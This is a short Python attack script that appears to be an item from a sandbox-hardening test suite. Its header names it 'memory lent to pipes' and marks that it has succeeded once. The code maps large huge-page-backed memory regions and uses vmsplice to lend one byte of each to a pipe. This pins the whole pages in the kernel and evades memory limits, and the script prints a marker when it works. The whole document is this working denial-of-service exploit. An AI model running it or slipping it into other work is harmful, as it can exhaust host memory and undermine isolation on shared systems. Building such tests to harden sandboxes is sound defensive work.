# /// attack
# name = "memory lent to pipes"
# threat = "memory"
# tries = "Lends a byte of each large page to a pipe, which keeps the whole of it."
# walls = true
# succeeded_once = true
# ///

import ctypes, mmap, os

libc = ctypes.CDLL(None, use_errno=True)
lent = 0
for _ in range(50):
    page = mmap.mmap(-1, 2**22, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    page.madvise(mmap.MADV_HUGEPAGE)
    page.write(bytes(2**22))
    place = ctypes.addressof(ctypes.c_char.from_buffer(page))
    vector = (ctypes.c_void_p * 2)(place + 2**21, 1)
    _, end = os.pipe()
    if libc.vmsplice(end, vector, 1, 0) == 1:
        lent += 1
if lent:
    print("SIGN", lent)
